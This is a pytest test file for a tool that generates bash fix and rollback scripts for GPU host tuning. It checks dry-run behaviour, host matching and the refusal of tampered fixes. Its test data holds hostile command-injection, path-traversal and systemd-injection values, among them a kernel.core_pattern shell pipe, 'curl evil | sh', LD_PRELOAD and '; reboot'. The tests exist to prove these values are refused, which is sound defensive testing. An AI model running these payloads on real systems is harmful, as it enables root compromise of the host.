"""Fix script: valid bash, dry run by default, rebuilt only from the checks' own fix builders,
rollback of exactly what it ran, and --apply only on the host the result came from."""

from __future__ import annotations

import copy
import os
import re
import shlex
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest

from doctor.facts import Facts
from doctor.fixes.base import FixRejected, build
from doctor.result_io import to_result
from reports.fixscript import fix_scripts
from tests.reports.conftest import EVIL

BASH = shutil.which("bash") or "bash"
pytestmark = pytest.mark.skipif(shutil.which("bash") is None, reason="bash not installed")
#: lines of a script that execute something (everything else is a comment, the header or a function)
ACTION = re.compile(r"^(run|look|put) ")


def _write(tmp_path: Path, name: str, text: str) -> Path:
    p = tmp_path / name
    p.write_text(text)
    return p


def _actions(script: str) -> list[str]:
    """The run/put lines, a put whose quoted content spans several lines joined into one."""
    out: list[str] = []
    lines = iter(script.splitlines())
    for line in lines:
        if not ACTION.match(line):
            continue
        while True:
            try:
                shlex.split(line)
                break
            except ValueError:
                line += "\n" + next(lines)
        out.append(line)
    return out


def _dry_run(path: Path, tmp_path: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([BASH, str(path), *args], capture_output=True, text=True,
                          env={**os.environ, "GND_BACKUP_DIR": str(tmp_path / "bk")})


def test_sick_scripts_parse_and_dry_run_changes_nothing(sick_data: dict[str, Any], tmp_path: Path, sick_facts: Facts) -> None:
    scripts = fix_scripts(to_result(sick_data), sick_facts)
    fix = _write(tmp_path, "fix.sh", scripts.fix)
    back = _write(tmp_path, "fix.rollback.sh", scripts.rollback)
    for p in (fix, back):
        subprocess.run([BASH, "-n", str(p)], check=True)
    assert scripts.fix.index("backup") < scripts.fix.index("\nrun '")
    assert "set -euo pipefail" in scripts.fix and "eval" not in scripts.fix
    out = _dry_run(fix, tmp_path)
    assert out.returncode == 0, out.stderr
    assert "[dry-run] sysctl -w kernel.numa_balancing=0" in out.stdout
    assert "[dry-run] echo 0-47 > /proc/irq/217/smp_affinity_list" in out.stdout
    assert not (tmp_path / "bk").exists()
    assert "nothing changed" in out.stdout
    for line in scripts.fix.splitlines():  # boot loader, PCIe config space, services: comments only
        if any(w in line for w in ("update-grub", "grubby", "setpci", "systemctl", "kubectl", "taskset")):
            assert line.startswith(("#", "todo ")), line  # todo only prints what is left by hand
    assert "run 'sysctl -w kernel.numa_balancing=1' -- sysctl -w kernel.numa_balancing=1" in scripts.rollback
    assert scripts.fix_commands == len(_actions(scripts.fix))


def test_rollback_undoes_only_what_the_fix_script_runs(sick_data: dict[str, Any], sick_facts: Facts) -> None:
    scripts = fix_scripts(to_result(sick_data), sick_facts)
    assert "systemctl disable --now irqbalance" in scripts.fix  # listed for a human ...
    assert "irqbalance" not in scripts.rollback  # ... so never re-enabled by the rollback
    assert "/etc/sysctl.d/" not in scripts.rollback  # it never wrote a sysctl.d file
    removed = re.findall(r"^run 'rm -f (\S+)' -- ", scripts.rollback, re.MULTILINE)
    assert removed  # the systemd drop-ins the fix script wrote ...
    for path in removed:  # ... and nothing else
        assert re.search(rf"^put .* {re.escape(path)} ", scripts.fix, re.MULTILINE | re.DOTALL), path
    ran = _actions(scripts.fix)
    undo = _actions(scripts.rollback)
    assert undo and scripts.rollback_commands == len(undo)
    assert {_target(line) for line in undo} <= {_target(line) for line in ran}  # each undoes a change made
    assert "put 'echo 56 > /proc/irq/217/smp_affinity_list' /proc/irq/217/smp_affinity_list 56" in undo


def _target(line: str) -> str:
    """What a script line changes: the file of a ``put``; the command without its new value for ``run``."""
    words = shlex.split(line)
    if words[0] == "put":
        return words[2]
    argv = words[words.index("--") + 1:]
    if argv[0] in ("rm", "mv", "sed", "patch"):  # file edits: the file they change
        return argv[-1]
    return " ".join(argv[:-1] + [argv[-1].split("=")[0]] if "=" in argv[-1] else argv[:-1])


def _tamper(data: dict[str, Any], check: str, **fix: Any) -> dict[str, Any]:
    data = copy.deepcopy(data)
    f = next(x for x in data["findings"] if x["check"] == check)
    f["fix"].update(fix)
    return data


HOSTILE_TEXT = [
    "sysctl -w 'kernel.core_pattern=|/bin/sh -c \"touch /tmp/gnd-pwned\"'",
    "systemctl start debug-shell.service",
    "modprobe -C /tmp/evil.conf dummy",
    "ethtool -E enp189s0np0 magic 0x1 offset 0 value 0",
]


@pytest.mark.parametrize("command", HOSTILE_TEXT)
def test_edited_command_text_is_never_run(sick_data: dict[str, Any], command: str, sick_facts: Facts) -> None:
    steps = [{"phase": "runtime", "argv": ["sh", "-c", command], "unattended": True, "key": "x"},
             {"phase": "runtime", "manual": command, "unattended": True}]
    for check in ("numa.kernel_policy", "net.link"):
        data = _tamper(sick_data, check, runtime=[command], rollback=[command], steps=steps)
        scripts = fix_scripts(to_result(data), sick_facts)
        for script in (scripts.fix, scripts.rollback):
            assert not any(command in line or "sh -c" in line for line in _actions(script))
            assert command not in script  # the text is not even shown: the fix is rebuilt


@pytest.mark.parametrize("builder,params,reason", [
    ("sysctl", {"set": {"kernel.core_pattern": "|/bin/sh -c id"}, "previous": {}, "conf": "90-gnd-numa.conf"},
     "does not set kernel.core_pattern"),
    ("sysctl", {"set": {"kernel.numa_balancing": "0; reboot"}, "previous": {"kernel.numa_balancing": "1"},
                "conf": "90-gnd-numa.conf"},
     "out of range"),
    ("sysctl", {"set": {"kernel.numa_balancing": "0"}, "previous": {"kernel.numa_balancing": "1"},
                "conf": "../../etc/passwd"}, "not a valid"),
    ("module_load", {"module": "-C /tmp/evil.conf dummy"}, "does not produce"),
    ("unit_env", {"unit": "vllm.service", "what": "x", "unset": ["NCCL_DEBUG"], "set": {}}, "does not produce"),
    ("sysctl", {"set": {"kernel.numa_balancing": "0"}, "conf": "90-gnd-numa.conf", "extra": ["ethtool", "-E"]},
     "unexpected parameter"),
    ("no_such_builder", {}, "does not produce"),
    ("sysctl", {"set": {"net.core.rmem_max": "1"}, "previous": {}, "conf": "90-gnd-numa.conf"},
     "does not set net.core.rmem_max"),
])
def test_edited_parameters_are_refused_with_a_reason(sick_data: dict[str, Any], builder: str,
                                                     params: dict[str, Any], reason: str, sick_facts: Facts) -> None:
    data = _tamper(sick_data, "numa.kernel_policy", builder=builder, params=params)
    scripts = fix_scripts(to_result(data), sick_facts)
    section = scripts.fix.split("numa.kernel_policy:", 1)[1].split("# ----", 1)[0]
    assert "# refused, nothing run:" in section and reason in section
    assert not _actions(section)
    assert "numa.kernel_policy" not in scripts.rollback


def test_unit_restarts_are_never_run(sick_data: dict[str, Any], sick_facts: Facts) -> None:
    data = _tamper(sick_data, "rdma.gid_index", builder="unit_env",
                   params={"unit": "debug-shell.service", "what": "x", "unset": ["NCCL_IB_GID_INDEX"], "set": {}})
    scripts = fix_scripts(to_result(data), sick_facts)
    assert not any("systemctl" in a for a in _actions(scripts.fix))  # service steps are never unattended
    assert "unit: 'debug-shell.service' is not a systemd unit whose file the checks read on this host" in scripts.fix
    assert "# by hand, not run by this script: systemctl restart vllm.service" in scripts.fix  # the host's own unit


@pytest.mark.parametrize("check,builder,params,reason", [
    ("rdma.gid_index", "unit_env", {"unit": "x.service; reboot", "what": "x", "unset": ["NCCL_IB_GID_INDEX"]},
     "not a valid systemd service name"),
    ("rdma.gid_index", "unit_env", {"unit": "../../../etc/cron.d/x.service", "what": "x", "unset": ["NCCL_DEBUG"]},
     "not a valid systemd service name"),
    ("rdma.gid_index", "unit_env", {"unit": "vllm.service", "what": "x", "set": {"LD_PRELOAD": "/tmp/x.so"}},
     "not an environment variable a check changes"),
    ("rdma.gid_index", "unit_env", {"unit": "vllm.service", "what": "x", "set": {"NCCL_SOCKET_IFNAME": "eth0\"\nExecStartPre=/bin/sh"}},
     "not a plain environment value"),
    ("rdma.gid_index", "unit_env", {"unit": "vllm.service", "what": "../../x", "unset": ["NCCL_DEBUG"]},
     "not a valid drop-in name"),
    ("rdma.gid_index", "file_patch", {"path": "/etc/pam.d/common-auth", "kind": "other", "start": 1,
                                      "old": ["auth required pam_unix.so"], "drop": ""},
     "not a valid deployment file path"),
    ("rdma.gid_index", "file_patch", {"path": "/srv/../etc/x.yaml", "kind": "other", "start": 1,
                                      "old": ["- NCCL_IB_GID_INDEX=3"], "drop": ""}, "not a plain path"),
    ("rdma.gid_index", "file_patch", {"path": "/srv/app/compose.yaml", "kind": "compose", "start": 1,
                                      "old": ["  privileged: false"], "drop": ""},
     "not a setting a check removes"),
    ("rdma.gid_index", "file_patch", {"path": "/srv/app/compose.yaml", "kind": "compose", "start": 1,
                                      "old": ["- NCCL_IB_GID_INDEX=3\n+  privileged: true"], "drop": ""},
     "not a valid line"),
    ("nccl.transport", "file_patch", {"path": "/srv/app/compose.yaml", "kind": "compose", "start": 1,
                                      "old": ["      - NCCL_IB_HCA=mlx5"],
                                      "set": {"NCCL_IB_HCA": "=mlx5_0\n    privileged: true"}},
     "not a plain environment value"),
    ("runtime.cuda_graphs", "unit_flag", {"unit": "vllm.service", "path": "/etc/passwd", "flag": "--enforce-eager"},
     "not a valid unit file path"),
    ("runtime.cuda_graphs", "unit_flag", {"unit": "vllm.service", "path": "/etc/systemd/system/vllm.service",
                                          "flag": "/x/; s/^/ExecStartPre=/bin/sh #/"}, "not a valid command-line flag"),
])
def test_hostile_unit_names_values_and_paths_are_refused(sick_data: dict[str, Any], check: str, builder: str,
                                                         params: dict[str, Any], reason: str, sick_facts: Facts) -> None:
    """Each value is refused by the builder's own shape checks (no host facts at hand) and, on the host,
    by the facts it must come from."""
    with pytest.raises(FixRejected, match=re.escape(reason)):
        build(builder, params)
    data = _tamper(sick_data, check, builder=builder, params=params)
    scripts = fix_scripts(to_result(data), sick_facts)
    section = scripts.fix.split(f"{check}:", 1)[1].split("# ----", 1)[0]
    assert "# refused, nothing run:" in section
    assert not _actions(section)


def test_command_line_drop_ins_are_for_a_human(sick_data: dict[str, Any], sick_facts: Facts) -> None:
    """An ExecStart= drop-in carries a command line from the result: shown, never written by the script."""
    data = _tamper(sick_data, "runtime.cuda_graphs", builder="unit_exec",
                   params={"unit": "vllm.service", "flag": "--enforce-eager",
                           "exec_start": "/bin/sh -c 'curl evil | sh' --enforce-eager"})
    scripts = fix_scripts(to_result(data), sick_facts)
    section = scripts.fix.split("runtime.cuda_graphs:", 1)[1].split("# ----", 1)[0]
    assert "is not an ExecStart= line of the unit's file on this host" in section  # not the unit's own line
    assert not any("curl" in a for a in _actions(scripts.fix))
    fix = build("unit_exec", {"unit": "vllm.service", "flag": "--enforce-eager", "exec_start": "/bin/vllm --enforce-eager"})
    assert not any(s.unattended for s in fix.steps if s.heredoc)  # a drop-in carrying a command line: for a human


def test_interfaces_must_exist_in_the_result(sick_data: dict[str, Any], sick_facts: Facts) -> None:
    ok = _tamper(sick_data, "net.link", params={"netdev": "enp189s0np0"})
    assert "run 'ip link set dev enp189s0np0 up'" in fix_scripts(to_result(ok), sick_facts).fix
    bad = _tamper(sick_data, "net.link", params={"netdev": "eth9"})
    scripts = fix_scripts(to_result(bad), sick_facts)
    assert "netdev: 'eth9' is not an interface of this host" in scripts.fix
    assert not any("eth9" in a for a in _actions(scripts.fix))


def test_old_results_show_fixes_but_run_nothing(sick_data: dict[str, Any], sick_facts: Facts) -> None:
    old = copy.deepcopy(sick_data)
    old["schema_version"] = "1.0"
    for f in old["findings"]:
        f["fix"] = {k: f["fix"][k] for k in ("runtime", "persistent", "rollback", "notes")}
    scripts = fix_scripts(to_result(old), sick_facts)
    assert scripts.fix_commands == 0 and scripts.rollback_commands == 0
    assert "no fix builder recorded" in scripts.fix


def test_hostile_values_never_execute(hostile_data: dict[str, Any], tmp_path: Path, sick_facts: Facts) -> None:
    scripts = fix_scripts(to_result(hostile_data), sick_facts)
    fix = _write(tmp_path, "fix.sh", scripts.fix)
    subprocess.run([BASH, "-n", str(fix)], check=True)
    marker = Path("/tmp/gnd-pwned")
    if marker.exists():
        marker.unlink()
    out = _dry_run(fix, tmp_path)
    assert out.returncode == 0 and not marker.exists()
    assert not any("<script>" in a for a in _actions(scripts.fix))
    for line in scripts.fix.splitlines():
        if EVIL in line:  # only inside a comment, on one line
            assert line.startswith("#"), line


def _fake_host(tmp_path: Path, hostname: str) -> dict[str, str]:
    """PATH with ``id`` saying root and ``hostname`` saying ``hostname`` (/proc and /etc are real)."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir(exist_ok=True)
    for name, text in (("id", "echo 0"), ("hostname", f"echo {hostname}")):
        (bin_dir / name).write_text(f"#!/bin/sh\n{text}\n")
        (bin_dir / name).chmod(0o755)
    return {**os.environ, "PATH": f"{bin_dir}:{os.environ['PATH']}", "GND_BACKUP_DIR": str(tmp_path / "bk")}


@pytest.mark.parametrize("script,hostname,why", [
    ("fix", "other-node", "this host is 'other-node', the result came from 'gpu-node-13'"),
    ("rollback", "other-node", "this host is 'other-node'"),
    ("fix", "gpu-node-13", "/etc/machine-id does not match"),  # same name, another machine
    ("rollback", "gpu-node-13", "/etc/machine-id does not match"),
])
def test_apply_refuses_another_host(sick_data: dict[str, Any], tmp_path: Path, script: str, hostname: str,
                                    why: str, sick_facts: Facts) -> None:
    scripts = fix_scripts(to_result(sick_data), sick_facts)
    path = _write(tmp_path, "s.sh", getattr(scripts, script))
    out = subprocess.run([BASH, str(path), "--apply"], capture_output=True, text=True,
                         env=_fake_host(tmp_path, hostname))
    assert out.returncode == 1
    assert "refusing to apply" in out.stderr and why in out.stderr
    assert "[dry-run]" not in out.stdout and "+ " not in out.stdout
    assert not (tmp_path / "bk").exists()


def test_apply_needs_the_recorded_machine_id(sick_data: dict[str, Any], tmp_path: Path, sick_facts: Facts) -> None:
    data = copy.deepcopy(sick_data)
    data["source"]["machine_id"] = None
    data["inventory"]["host"]["machine_id"] = None
    assert "EXPECT_MACHINE_ID=''" in fix_scripts(to_result(data), sick_facts).fix
    assert f"EXPECT_MACHINE_ID={sick_data['source']['machine_id']}" in fix_scripts(to_result(sick_data), sick_facts).fix
    assert "EXPECT_HOST=gpu-node-13" in fix_scripts(to_result(sick_data), sick_facts).fix


#: The data-centre GPU and process-limit builders: parameters a check produces, and one hostile edit each
#: with the reason it is refused.
DC_BUILDERS: dict[str, tuple[dict[str, Any], dict[str, Any], str]] = {
    "gpu_query": ({"index": 3, "query": "pcie"}, {"query": "-r"}, "not one this check produces"),
    "ecc_mode": ({"index": 2, "enable": True, "previous": False, "pending": False}, {"index": "2; reboot"},
                 "not an integer"),
    "mig_mode": ({"index": 3, "enable": False, "previous": True, "pending": False}, {"enable": "0 -r"},
                 "not a boolean"),
    "compute_mode": ({"index": 1, "previous": "PROHIBITED"}, {"previous": "DEFAULT; id"},
                     "not one this check produces"),
    "fabric_manager": ({"action": "start", "enable": True}, {"action": "mask"}, "not one this check produces"),
    "prlimit_memlock": ({"previous": {"4242": [65536, 65536]}}, {"previous": {"4242": [65536, "1:2 --pid=1"]}},
                        "not a byte count"),
    "shm_resize": ({"pid": 4318, "size": "16G", "previous": 64 << 20}, {"pid": "1 -m -- sh"}, "not a process id"),
    "hugepages": ({"size_kb": 2048, "pages": 4096, "previous": 1200, "sysctl": False}, {"size_kb": 3000},
                  "not a page size"),
}
#: Builders whose runtime steps a fix script may run (read-only, or exactly undone without a reset)
DC_UNATTENDED = {"gpu_query", "compute_mode"}


@pytest.mark.parametrize("name", sorted(DC_BUILDERS))
def test_data_centre_builders_refuse_hostile_parameters(name: str) -> None:
    good, edit, reason = DC_BUILDERS[name]
    fix = build(name, good)
    assert fix.steps and all(s.kind in ("command", "write") for s in fix.steps)
    assert all(s.unattended == (name in DC_UNATTENDED) for s in fix.steps if s.phase == "runtime")
    with pytest.raises(FixRejected, match=re.escape(reason)):
        build(name, {**good, **edit})
    with pytest.raises(FixRejected, match="unexpected parameter"):
        build(name, {**good, "argv": ["sh", "-c", "id"]})


def test_gpu_resets_and_service_starts_stay_comments(sick_data: dict[str, Any], sick_facts: Facts) -> None:
    """A pcie.replay fix edited into an ECC change with a reset is refused; one that is the check's own
    builder but asks for a reset is shown, never run."""
    edited = _tamper(sick_data, "pcie.replay", builder="ecc_mode", params=DC_BUILDERS["ecc_mode"][0])
    section = fix_scripts(to_result(edited), sick_facts).fix.split("pcie.replay:", 1)[1].split("# ----", 1)[0]
    assert "does not produce ecc_mode" in section and not _actions(section)
    scripts = fix_scripts(to_result(sick_data), sick_facts)
    assert "look 'nvidia-smi -q -d PCIE -i 3' -- nvidia-smi -q -d PCIE -i 3" in scripts.fix  # read-only re-read
    for step in build("ecc_mode", DC_BUILDERS["ecc_mode"][0]).steps + build(
            "fabric_manager", DC_BUILDERS["fabric_manager"][0]).steps:
        assert not step.unattended, step.text
